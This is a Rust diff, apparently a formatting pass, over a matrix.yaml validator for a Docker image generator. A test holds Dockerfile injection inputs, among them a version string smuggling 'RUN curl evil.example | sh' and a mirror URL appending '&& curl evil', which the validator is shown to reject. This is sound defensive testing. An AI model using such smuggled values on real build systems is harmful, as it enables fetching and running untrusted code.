@@ -19,9 +19,18 @@ use crate::version::{DottedVersion, TorchVersion};
 #[derive(Debug, thiserror::Error)]
 pub enum MatrixError {
     #[error("cannot read matrix {path}: {source}")]
-    Read { path: String, source: std::io::Error },
+    Read {
+        path: String,
+        source: std::io::Error,
+    },
     #[error("{path}{location}: {message}{hint}", location = location_suffix(*line, *column), hint = hint_suffix(hint))]
-    Invalid { path: String, line: Option<usize>, column: Option<usize>, message: String, hint: Option<String> },
+    Invalid {
+        path: String,
+        line: Option<usize>,
+        column: Option<usize>,
+        message: String,
+        hint: Option<String>,
+    },
 }
 
 fn location_suffix(line: Option<usize>, column: Option<usize>) -> String {
@@ -33,7 +42,9 @@ fn location_suffix(line: Option<usize>, column: Option<usize>) -> String {
 }
 
 fn hint_suffix(hint: &Option<String>) -> String {
-    hint.as_ref().map(|h| format!("\nhint: {h}")).unwrap_or_default()
+    hint.as_ref()
+        .map(|h| format!("\nhint: {h}"))
+        .unwrap_or_default()
 }
 
 /// The image variants imagegen knows how to render.
@@ -75,7 +86,8 @@ impl fmt::Display for VersionText {
 impl<'de> Deserialize<'de> for VersionText {
     fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
         let text = String::deserialize(deserializer)?;
-        DottedVersion::parse_kind(&text, "", 4).map_err(|e| de::Error::custom(format!("malformed version {:?}: {}", text, e.why)))?;
+        DottedVersion::parse_kind(&text, "", 4)
+            .map_err(|e| de::Error::custom(format!("malformed version {:?}: {}", text, e.why)))?;
         Ok(VersionText(text))
     }
 }
@@ -94,11 +106,13 @@ impl fmt::Display for OsName {
 impl<'de> Deserialize<'de> for OsName {
     fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
         let text = String::deserialize(deserializer)?;
-        let valid = text
-            .strip_prefix("ubuntu")
-            .is_some_and(|rest| DottedVersion::parse_kind(rest, "", 2).is_ok_and(|v| v.parts().len() == 2));
+        let valid = text.strip_prefix("ubuntu").is_some_and(|rest| {
+            DottedVersion::parse_kind(rest, "", 2).is_ok_and(|v| v.parts().len() == 2)
+        });
         if !valid {
-            return Err(de::Error::custom(format!("malformed OS {text:?}: write it as ubuntuYY.MM, e.g. ubuntu24.04")));
+            return Err(de::Error::custom(format!(
+                "malformed OS {text:?}: write it as ubuntuYY.MM, e.g. ubuntu24.04"
+            )));
         }
         Ok(OsName(text))
     }
@@ -144,7 +158,12 @@ pub struct TagSettings {
 
 impl Default for TagSettings {
     fn default() -> Self {
-        Self { full: default_full_tag(), default_os: None, default_python: None, latest: true }
+        Self {
+            full: default_full_tag(),
+            default_os: None,
+            default_python: None,
+            latest: true,
+        }
     }
 }
 
@@ -229,15 +248,31 @@ fn default_variants() -> Vec<Variant> {
 
 /// Every top-level key, for "did you mean" hints.
 const TOP_LEVEL_KEYS: &[&str] = &[
-    "registry", "repository", "torch", "cuda", "cudnn", "python", "os", "variants", "include", "exclude", "tags",
-    "mirrors", "labels", "allow_unverified", "templates", "base_images",
+    "registry",
+    "repository",
+    "torch",
+    "cuda",
+    "cudnn",
+    "python",
+    "os",
+    "variants",
+    "include",
+    "exclude",
+    "tags",
+    "mirrors",
+    "labels",
+    "allow_unverified",
+    "templates",
+    "base_images",
 ];
 
 impl Matrix {
     /// Reads and validates the matrix at `path`.
     pub fn load(path: &Path) -> Result<Matrix, MatrixError> {
-        let text = std::fs::read_to_string(path)
-            .map_err(|source| MatrixError::Read { path: path.display().to_string(), source })?;
+        let text = std::fs::read_to_string(path).map_err(|source| MatrixError::Read {
+            path: path.display().to_string(),
+            source,
+        })?;
         let mut matrix = Self::parse(&text, &path.display().to_string())?;
         if let Some(templates) = &matrix.templates {
             if templates.is_relative() {
@@ -261,9 +296,17 @@ impl Matrix {
                 None => message,
             };
             let hint = unknown_field_hint(&message).or_else(|| {
-                message.contains("expected a sequence").then(|| "axes are lists: write `cuda: [\"12.6\"]`".to_string())
+                message
+                    .contains("expected a sequence")
+                    .then(|| "axes are lists: write `cuda: [\"12.6\"]`".to_string())
             });
-            MatrixError::Invalid { path: path.to_string(), line, column, message, hint }
+            MatrixError::Invalid {
+                path: path.to_string(),
+                line,
+                column,
+                message,
+                hint,
+            }
         })?;
         matrix.validate(text, path)?;
         Ok(matrix)
@@ -273,21 +316,58 @@ impl Matrix {
     fn validate(&self, text: &str, path: &str) -> Result<(), MatrixError> {
         let invalid = |key: &str, needle: &str, message: String, hint: Option<String>| {
             let (line, column) = find_location(text, key, needle);
-            MatrixError::Invalid { path: path.to_string(), line, column, message, hint }
+            MatrixError::Invalid {
+                path: path.to_string(),
+                line,
+                column,
+                message,
+                hint,
+            }
         };
-        for (key, empty) in [("torch", self.torch.is_empty()), ("cuda", self.cuda.is_empty()), ("os", self.os.is_empty()), ("variants", self.variants.is_empty())] {
+        for (key, empty) in [
+            ("torch", self.torch.is_empty()),
+            ("cuda", self.cuda.is_empty()),
+            ("os", self.os.is_empty()),
+            ("variants", self.variants.is_empty()),
+        ] {
             if empty {
-                return Err(invalid(key, "", format!("`{key}` is empty: list at least one value"), None));
+                return Err(invalid(
+                    key,
+                    "",
+                    format!("`{key}` is empty: list at least one value"),
+                    None,
+                ));
             }
         }
-        for torch in self.torch.iter().chain(self.include.iter().filter_map(|r| r.torch.as_ref())) {
-            TorchVersion::parse(&torch.0).map_err(|e| invalid("torch", &torch.0, e.to_string(), None))?;
+        for torch in self
+            .torch
+            .iter()
+            .chain(self.include.iter().filter_map(|r| r.torch.as_ref()))
+        {
+            TorchVersion::parse(&torch.0)
+                .map_err(|e| invalid("torch", &torch.0, e.to_string(), None))?;
         }
-        check_reference_part("registry", &self.registry, true).map_err(|m| invalid("registry", &self.registry, m, None))?;
-        check_reference_part("repository", &self.repository, false)
-            .map_err(|m| invalid("repository", &self.repository, m, Some("lowercase letters, digits, `.`, `_`, `-` and `/`".into())))?;
-        if !self.repository.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "._-/".contains(c)) {
-            return Err(invalid("repository", &self.repository, format!("repository {:?} must be lowercase", self.repository), None));
+        check_reference_part("registry", &self.registry, true)
+            .map_err(|m| invalid("registry", &self.registry, m, None))?;
+        check_reference_part("repository", &self.repository, false).map_err(|m| {
+            invalid(
+                "repository",
+                &self.repository,
+                m,
+                Some("lowercase letters, digits, `.`, `_`, `-` and `/`".into()),
+            )
+        })?;
+        if !self
+            .repository
+            .chars()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "._-/".contains(c))
+        {
+            return Err(invalid(
+                "repository",
+                &self.repository,
+                format!("repository {:?} must be lowercase", self.repository),
+                None,
+            ));
         }
         let mirrors = [
             ("torch_index", &self.mirrors.torch_index),
@@ -296,7 +376,8 @@ impl Matrix {
         ];
         for (key, value) in mirrors {
             if let Some(url) = value {
-                check_url(url).map_err(|m| invalid(key, url, format!("mirrors.{key}: {m}"), None))?;
+                check_url(url)
+                    .map_err(|m| invalid(key, url, format!("mirrors.{key}: {m}"), None))?;
             }
         }
         if let Some(prefix) = &self.mirrors.base_registry {
@@ -304,12 +385,14 @@ impl Matrix {
                 .map_err(|m| invalid("base_registry", prefix, format!("mirrors.{m}"), None))?;
         }
         if let Some(base) = &self.base_images.runtime {
-            check_image_reference(base).map_err(|m| invalid("runtime", base, format!("base_images.runtime: {m}"), None))?;
+            check_image_reference(base)
+                .map_err(|m| invalid("runtime", base, format!("base_images.runtime: {m}"), None))?;
         }
         for (key, value) in &self.labels {
             check_label(key, value).map_err(|m| invalid(key, "", m, None))?;
         }
-        check_tag_template(&self.tags.full).map_err(|m| invalid("full", "", format!("tags.full: {m}"), None))?;
+        check_tag_template(&self.tags.full)
+            .map_err(|m| invalid("full", "", format!("tags.full: {m}"), None))?;
         Ok(())
     }
 }
@@ -319,13 +402,18 @@ fn unknown_field_hint(message: &str) -> Option<String> {
     let rest = message.split("unknown field `").nth(1)?;
     let unknown = rest.split('`').next()?;
     let candidates: Vec<String> = match rest.split("expected one of ").nth(1) {
-        Some(list) => list.split(", ").map(|c| c.trim_matches(|ch| ch == '`' || ch == ' ').to_string()).collect(),
+        Some(list) => list
+            .split(", ")
+            .map(|c| c.trim_matches(|ch| ch == '`' || ch == ' ').to_string())
+            .collect(),
         None => match rest.split("expected `").nth(1) {
             Some(single) => vec![single.trim_end_matches('`').to_string()],
             None => TOP_LEVEL_KEYS.iter().map(|s| s.to_string()).collect(),
         },
     };
-    let best = candidates.iter().min_by_key(|c| edit_distance(unknown, c))?;
+    let best = candidates
+        .iter()
+        .min_by_key(|c| edit_distance(unknown, c))?;
     if edit_distance(unknown, best) <= 2.max(unknown.len() / 3) {
         Some(format!("did you mean `{best}`?"))
     } else {
@@ -353,7 +441,11 @@ fn find_location(text: &str, key: &str, needle: &str) -> (Option<usize>, Option<
     for (index, line) in text.lines().enumerate() {
         if let Some(key_at) = line.find(&format!("{key}:")) {
             if needle.is_empty() || line.contains(needle) {
-                let column = if needle.is_empty() { key_at } else { line.find(needle).unwrap_or(key_at) };
+                let column = if needle.is_empty() {
+                    key_at
+                } else {
+                    line.find(needle).unwrap_or(key_at)
+                };
                 return (Some(index + 1), Some(column + 1));
             }
         }
@@ -375,12 +467,20 @@ fn check_reference_part(what: &str, value: &str, is_host: bool) -> Result<(), St
     if value.is_empty() {
         return Err(format!("{what} is empty"));
     }
-    let allowed = |c: char| c.is_ascii_alphanumeric() || "._-/".contains(c) || (is_host && c == ':');
+    let allowed =
+        |c: char| c.is_ascii_alphanumeric() || "._-/".contains(c) || (is_host && c == ':');
     if let Some(bad) = value.chars().find(|c| !allowed(*c)) {
-        return Err(format!("{what} {value:?} contains {bad:?}, which is not allowed in an image reference"));
+        return Err(format!(
+            "{what} {value:?} contains {bad:?}, which is not allowed in an image reference"
+        ));
     }
-    if value.starts_with(['/', '-', '.']) || value.ends_with(['/', '-', '.']) || value.contains("//") {
-        return Err(format!("{what} {value:?} is not a valid image reference part"));
+    if value.starts_with(['/', '-', '.'])
+        || value.ends_with(['/', '-', '.'])
+        || value.contains("//")
+    {
+        return Err(format!(
+            "{what} {value:?} is not a valid image reference part"
+        ));
     }
     Ok(())
 }
@@ -401,47 +501,82 @@ fn check_url(url: &str) -> Result<(), String> {
     }
     let allowed = |c: char| c.is_ascii_alphanumeric() || "-._~:/?#[]@!&'()*+,;=%".contains(c);
     if let Some(bad) = url.chars().find(|c| !allowed(*c) || *c == '\'') {
-        return Err(format!("{url:?} contains {bad:?}, which is not allowed in a mirror URL"));
+        return Err(format!(
+            "{url:?} contains {bad:?}, which is not allowed in a mirror URL"
+        ));
     }
     Ok(())
 }
 
 /// A label key in reverse-DNS form and a value without quotes, backslashes, `$` or control characters.
 fn check_label(key: &str, value: &str) -> Result<(), String> {
-    if key.is_empty() || !key.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c)) {
-        return Err(format!("label key {key:?} may contain only letters, digits, `.`, `_` and `-`"));
+    if key.is_empty()
+        || !key
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
+    {
+        return Err(format!(
+            "label key {key:?} may contain only letters, digits, `.`, `_` and `-`"
+        ));
     }
     check_free_text(&format!("label {key}"), value)
 }
 
 /// Free text that is quoted in a Dockerfile: no `"`, `\`, `$`, backtick or control characters.
 pub fn check_free_text(what: &str, value: &str) -> Result<(), String> {
-    if let Some(bad) = value.chars().find(|c| c.is_control() || "\"\\$`".contains(*c)) {
-        return Err(format!("{what} {value:?} contains {bad:?}, which is not allowed in a Dockerfile value"));
+    if let Some(bad) = value
+        .chars()
+        .find(|c| c.is_control() || "\"\\$`".contains(*c))
+    {
+        return Err(format!(
+            "{what} {value:?} contains {bad:?}, which is not allowed in a Dockerfile value"
+        ));
     }
     Ok(())
 }
 
 /// Tag templates may use only known placeholders and produce valid tag characters.
 fn check_tag_template(template: &str) -> Result<(), String> {
-    const PLACEHOLDERS: &[&str] = &["torch", "torch_series", "cuda", "cudnn_major", "cudnn", "python", "variant", "os"];
+    const PLACEHOLDERS: &[&str] = &[
+        "torch",
+        "torch_series",
+        "cuda",
+        "cudnn_major",
+        "cudnn",
+        "python",
+        "variant",
+        "os",
+    ];
     let mut rest = template;
     let mut literal = String::new();
     while let Some(open) = rest.find('{') {
         literal.push_str(&rest[..open]);
-        let close = rest[open..].find('}').ok_or_else(|| format!("{template:?} has an unclosed `{{`"))? + open;
+        let close = rest[open..]
+            .find('}')
+            .ok_or_else(|| format!("{template:?} has an unclosed `{{`"))?
+            + open;
         let name = &rest[open + 1..close];
         if !PLACEHOLDERS.contains(&name) {
-            return Err(format!("unknown placeholder {{{name}}} (known: {})", PLACEHOLDERS.join(", ")));
+            return Err(format!(
+                "unknown placeholder {{{name}}} (known: {})",
+                PLACEHOLDERS.join(", ")
+            ));
         }
         rest = &rest[close + 1..];
     }
     literal.push_str(rest);
-    if let Some(bad) = literal.chars().find(|c| !(c.is_ascii_alphanumeric() || "._-".contains(*c))) {
-        return Err(format!("{template:?} contains {bad:?}, which is not allowed in a tag"));
+    if let Some(bad) = literal
+        .chars()
+        .find(|c| !(c.is_ascii_alphanumeric() || "._-".contains(*c)))
+    {
+        return Err(format!(
+            "{template:?} contains {bad:?}, which is not allowed in a tag"
+        ));
     }
     if !template.contains("{variant}") {
-        return Err(format!("{template:?} must contain {{variant}} so runtime and devel images get different tags"));
+        return Err(format!(
+            "{template:?} must contain {{variant}} so runtime and devel images get different tags"
+        ));
     }
     Ok(())
 }
@@ -474,7 +609,10 @@ mod tests {
     #[test]
     fn unknown_key_names_line_column_and_suggestion() {
         let error = error_of(&MINIMAL.replace("torch:", "torhc:"));
-        assert!(error.starts_with("matrix.yaml:3:1: unknown field `torhc`"), "{error}");
+        assert!(
+            error.starts_with("matrix.yaml:3:1: unknown field `torhc`"),
+            "{error}"
+        );
         assert!(error.contains("hint: did you mean `torch`?"), "{error}");
         let nested = error_of(&format!("{MINIMAL}tags:\n  ful: x\n"));
         assert!(nested.contains("matrix.yaml:7:3"), "{nested}");
@@ -500,15 +638,28 @@ mod tests {
 
     #[test]
     fn injection_attempts_are_rejected() {
-        let error = error_of(&MINIMAL.replace("[\"2.7\"]", "[\"2.7.0\\nRUN curl evil.example | sh\"]"));
+        let error =
+            error_of(&MINIMAL.replace("[\"2.7\"]", "[\"2.7.0\\nRUN curl evil.example | sh\"]"));
         assert!(error.contains("malformed version"), "{error}");
         let error = error_of(&MINIMAL.replace("acme/pytorch", "\"acme/pytorch\\nRUN x\""));
-        assert!(error.contains("not allowed in an image reference"), "{error}");
-        let error = error_of(&format!("{MINIMAL}mirrors:\n  pip_index: \"https://x.example/simple && curl evil\"\n"));
+        assert!(
+            error.contains("not allowed in an image reference"),
+            "{error}"
+        );
+        let error = error_of(&format!(
+            "{MINIMAL}mirrors:\n  pip_index: \"https://x.example/simple && curl evil\"\n"
+        ));
         assert!(error.contains("mirrors.pip_index"), "{error}");
-        let error = error_of(&format!("{MINIMAL}labels:\n  org.example.team: \"a\\\"\\nRUN x\"\n"));
-        assert!(error.contains("not allowed in a Dockerfile value"), "{error}");
-        let error = error_of(&format!("{MINIMAL}tags:\n  full: \"{{torch}}-{{nope}}-{{variant}}\"\n"));
+        let error = error_of(&format!(
+            "{MINIMAL}labels:\n  org.example.team: \"a\\\"\\nRUN x\"\n"
+        ));
+        assert!(
+            error.contains("not allowed in a Dockerfile value"),
+            "{error}"
+        );
+        let error = error_of(&format!(
+            "{MINIMAL}tags:\n  full: \"{{torch}}-{{nope}}-{{variant}}\"\n"
+        ));
         assert!(error.contains("unknown placeholder {nope}"), "{error}");
     }
 
